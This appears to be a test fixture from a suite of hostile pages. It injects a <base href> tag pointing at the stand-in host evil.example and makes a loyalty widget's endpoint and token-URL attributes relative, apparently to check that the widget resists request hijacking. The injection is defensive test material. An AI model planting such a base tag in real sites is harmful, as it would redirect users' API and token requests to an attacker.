import { shop, type HostilePage } from '../support/page.js';

/** The tag and its settings are written as addresses of the shop, and the page says they are elsewhere. */
export default {
  title: 'a foreign base lies under all relative addresses',
  html: (place) => {
    const { pathname } = new URL(`${place.origin}/loyalty/v1/pk_oak`);
    return shop(place, {
      body: '<base href="https://evil.example/deep/">',
      script: place
        .tag()
        .replace(`data-endpoint="${place.origin}${pathname}"`, `data-endpoint="${pathname}"`)
        .replace(`data-token-url="${place.origin}`, 'data-token-url="'),
    });
  },
} satisfies HostilePage;
